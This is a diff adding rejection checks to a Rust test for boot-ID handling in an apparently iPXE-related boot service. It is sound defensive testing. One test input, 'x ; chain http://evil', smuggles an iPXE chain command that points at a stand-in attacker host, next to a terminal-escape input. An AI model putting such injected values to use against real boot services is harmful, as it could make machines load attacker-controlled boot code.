@@ -136,6 +136,11 @@ async fn two_boot_ids_with_one_windows_token_fail_the_run_naming_both() {
     };
     let first = "1".repeat(36);
     let second = "2".repeat(36);
+    // A boot id is the kernel's: no terminal escapes, no iPXE commands.
+    for bad in ["x\u{1b}[2J", "x ; chain http://evil", "", &"a".repeat(65)] {
+        let r = hello(bad.to_string()).await;
+        assert_eq!(r.status(), 422, "{bad:?}");
+    }
     assert_eq!(hello(first.clone()).await.status(), 200);
     // Saying hello again for the same boot is fine.
     assert_eq!(hello(first.clone()).await.status(), 200);
